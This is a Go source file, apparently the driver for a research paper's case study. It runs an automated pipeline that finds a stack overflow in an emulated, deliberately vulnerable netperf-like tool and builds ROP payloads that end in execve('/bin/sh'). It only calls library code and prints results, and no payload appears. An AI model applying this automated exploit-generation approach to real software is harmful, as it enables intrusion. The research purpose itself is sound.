// The paper's Section VI-C case study, end to end: a netperf-like network
// tool with the Fig. 7 break_args stack overflow is compiled with
// Obfuscator-LLVM-style passes; the exploit is developed the way a real
// attacker would — cyclic-pattern crash analysis discovers the overflow
// geometry, Gadget-Planner builds payloads for the discovered stack
// address, and the final request is delivered through the program's own
// input path until the emulator observes execve("/bin/sh").
package main

import (
	"fmt"
	"log"

	"github.com/nofreelunch/gadget-planner/internal/experiments"
	"github.com/nofreelunch/gadget-planner/internal/planner"
)

func main() {
	res, err := experiments.Netperf(experiments.Options{
		Planner: planner.Options{MaxPlans: 20, MaxNodes: 10000},
	})
	if err != nil {
		log.Fatal(err)
	}

	fmt.Println("== netperf-sim case study (LLVM-Obf build) ==")
	fmt.Printf("crash analysis: return address %d bytes into the option buffer, slot at %#x\n",
		res.Offset, res.StackBase)
	fmt.Printf("Gadget-Planner: %d verified execve payloads (paper: 16)\n", res.Payloads)
	if !res.ExploitWorks {
		log.Fatal("exploit did not fire")
	}
	fmt.Printf("\nexploit request: %d bytes over the wire\n", len(res.ExploitStdin))
	fmt.Println("result: execve(\"/bin/sh\") observed in the emulator ✓")
	fmt.Printf("\nchain used (the paper's Fig. 8 analogue):\n%s", res.ChainExample)
}
